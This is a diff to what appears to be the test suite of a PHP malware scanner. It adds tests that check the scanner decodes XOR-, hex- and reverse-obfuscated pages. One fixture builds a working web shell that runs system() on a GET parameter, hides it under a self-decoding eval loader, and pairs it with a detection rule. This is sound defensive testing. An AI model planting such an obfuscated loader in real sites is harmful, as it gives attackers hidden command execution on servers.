@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import os
+import random
 import re
 import urllib.parse
 import zlib
@@ -1401,6 +1402,38 @@ def test_a_payload_under_the_pages_own_xor_cipher_is_decoded(
     assert scan(ruleset, tmp_path, "x.php", page) == {"T_System_Get": "strrev > hex2bin > xor"}
     # without the key in the page, nothing decodes to code
     assert payload.unxor(bytes.fromhex(hexed[::-1].decode()), [b"nope"]) is None
+
+
+def test_a_wrong_key_that_leaves_high_bytes_and_a_chance_call_deciphers_nothing() -> None:
+    # a wrong guess over a ciphertext: bytes above 127 (text to a multibyte charset), and `$a(`
+    # somewhere in its KB by chance; code is mostly ASCII, so this is no plaintext
+    key = b"k3yZ"
+    garbage = (bytes(range(0xA0, 0xFF)) * 20)[:1000] + b"$a(1);"
+    stream = (key * len(garbage))[: len(garbage)]
+    assert payload.unxor(bytes(a ^ b for a, b in zip(garbage, stream, strict=True)), [key]) is None
+
+
+@pytest.mark.parametrize("seed", range(24))
+def test_a_page_under_its_own_cipher_is_deciphered_whatever_the_key(
+    tmp_path: Path, seed: int
+) -> None:
+    # The page's own cipher over a turned hex literal, with a key of its own: read forwards,
+    # the literal is noise that may look like text, or like a raw deflate stream; turned and
+    # deciphered, it is a page whose command goes through a variable (the flow pass restates
+    # it), behind a head cut inside the literal.
+    rng = random.Random(seed)
+    key = "".join(rng.choice("abcdefghijkmnpqrstuvwxyz23456789") for _ in range(8)).encode()
+    code = b"<?php\n# tools\n$c = $_GET['c'];\nsystem($c);\n?>\n" + b"<p>notes</p>\n" * 200
+    stream = (key * len(code))[: len(code)]
+    hexed = bytes(a ^ b for a, b in zip(code, stream, strict=True)).hex().encode()[::-1]
+    page = (
+        b"<?php function dx($h, $k) { $d = hex2bin(strrev($h)); $o = ''; $n = strlen($k);"
+        b" for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % $n]; } return $o; }\n"
+        b'$p = "' + hexed + b'";\n$k = "' + key + b"\";\neval('?>' . dx($p, $k)); ?>"
+    )
+    rules = rules_of(tmp_path, 'rule T_System_Post { strings: $a = "system($_POST" condition: $a }')
+    found = scan(rules, tmp_path, "x.php", page)
+    assert found == {"T_System_Post": "strrev > hex2bin > xor > flow"}
 
 
 @pytest.mark.parametrize("turned", [False, True], ids=["forwards", "strrev"])
